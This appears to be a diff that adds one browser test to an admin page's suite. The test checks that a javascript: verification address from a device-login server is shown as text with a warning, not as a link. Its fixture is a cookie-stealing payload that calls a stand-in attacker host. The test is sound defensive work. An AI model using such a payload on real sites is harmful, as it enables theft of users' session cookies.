@@ -379,6 +379,31 @@ describe("admin page", () => {
     await agent.close();
   });
 
+  it("a device login whose server gives a javascript: verification address shows it as text, not a link", {
+    timeout: 60_000,
+  }, async () => {
+    const hostile = "javascript:fetch('//evil.example/'+document.cookie)";
+    oauth.deviceAnswer = { verification_uri: hostile, verification_uri_complete: hostile };
+    const link = await cli(["admin"]);
+    const url = /(http:\/\/127\.0\.0\.1:\d+\/admin\/login\?code=\S+)/.exec(link.stdout)?.[1];
+    expect(url, link.stdout).toBeDefined();
+    const context = await browser.newContext();
+    const page = await newPage(context);
+    await page.goto(url!);
+    await page.getByRole("button", { name: "Log in" }).click();
+    await page.waitForURL(/\/admin\/$/);
+    await page.getByRole("navigation").getByRole("link", { name: "Actions" }).click();
+    await page.getByRole("button", { name: "Start login" }).click();
+    const card = page.locator(".device").first();
+    await card.locator(".code").waitFor();
+    expect(await page.locator(`[href^="javascript:"]`).count()).toBe(0);
+    expect(await card.locator("a").count()).toBe(0);
+    await expect(card.locator("code").textContent()).resolves.toBe(hostile);
+    await expect(card.textContent()).resolves.toContain("not https: check it before you open it");
+    oauth.deviceAnswer = {};
+    await context.close();
+  });
+
   it("off loopback: serves the page over TLS with a CA leaf, and a password logs in there", {
     timeout: 60_000,
   }, async () => {
